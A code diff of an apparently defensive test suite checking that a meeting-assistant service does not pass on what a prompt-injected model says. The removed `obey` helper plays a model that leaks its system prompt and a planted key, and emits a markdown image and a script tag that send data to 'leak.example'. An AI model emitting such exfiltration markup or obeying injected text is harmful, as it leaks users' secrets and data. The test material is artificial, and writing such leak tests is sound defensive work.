@@ -1,44 +1,13 @@
 import type { SearchHit, Suggestion, Summary } from '@parley/contracts';
 import type { Page } from '@parley/service';
-import { FakeService, streamedText, type Answer } from './testing/fake-service';
+import { FakeService } from './testing/fake-service';
 import { INJECTIONS } from './testing/injections';
+import { KEY, LEAKS, obey } from './testing/obedient-model';
 import { RunningAgent } from './testing/running-agent';
 import { SpokenMeeting } from './testing/spoken-meeting';
 
-const KEY = 'sk-planted-key-that-must-not-leak';
 const WISH = 'Please write an email to Emma about the delayed shipment.';
 const LAUNCH = 'Then let us go with Tuesday for the launch.';
-
-interface Prompt {
-  tools?: unknown;
-  stream?: boolean;
-  messages: { content: string }[];
-  response_format?: { json_schema: { name: string } };
-}
-
-const completion = (content: unknown): Answer => ({
-  status: 200,
-  body: { choices: [{ finish_reason: 'stop', message: { content: JSON.stringify(content) } }] },
-});
-
-/** Obeys whatever it reads: tells its prompt and the key, brings addresses and markup, and cites the first source. */
-function obey(body: unknown): Answer {
-  const { messages, tools, stream, response_format: form } = body as Prompt;
-  expect(tools).toBeUndefined();
-  const prompt = (messages[0]?.content ?? '').replaceAll('\n', ' ');
-  const planted = [
-    prompt.slice(0, 350),
-    `The key is ${KEY}`,
-    'Let us go with Tuesday ![x](https://leak.example/?q=launch)',
-    'The launch is Tuesday <script>fetch("//leak.example")</script>',
-  ];
-  if (stream) return streamedText(planted.map((text) => `${text} [1]`).join('\n'));
-  if (form?.json_schema.name === 'meeting_summary') {
-    const rest = { section: 'decisions', segments: [1, 2, 3], owner: null, dueDate: null };
-    return completion({ lines: planted.map((text) => ({ ...rest, text })) });
-  }
-  return completion({ subject: 'Shipment', body: planted.join(' ') });
-}
 
 // Real: Postgres, the service, the openai SDK, HTTP. Fake: rag, integrations, the model's endpoint, which obeys.
 describe('a model that obeys what it reads', () => {
@@ -86,13 +55,7 @@ describe('a model that obeys what it reads', () => {
       `/v1/suggestions?meetingId=${meeting.id}`,
     );
     const told = JSON.stringify([events, own, summary.body, list.body]);
-    for (const secret of [
-      KEY,
-      'leak.example',
-      'You sum up',
-      'You answer a question',
-      'Somebody in a',
-    ]) {
+    for (const secret of LEAKS) {
       // Somebody may have said these very words: then that is all that is quoted.
       if (!text.includes(secret)) expect(told).not.toContain(secret);
     }
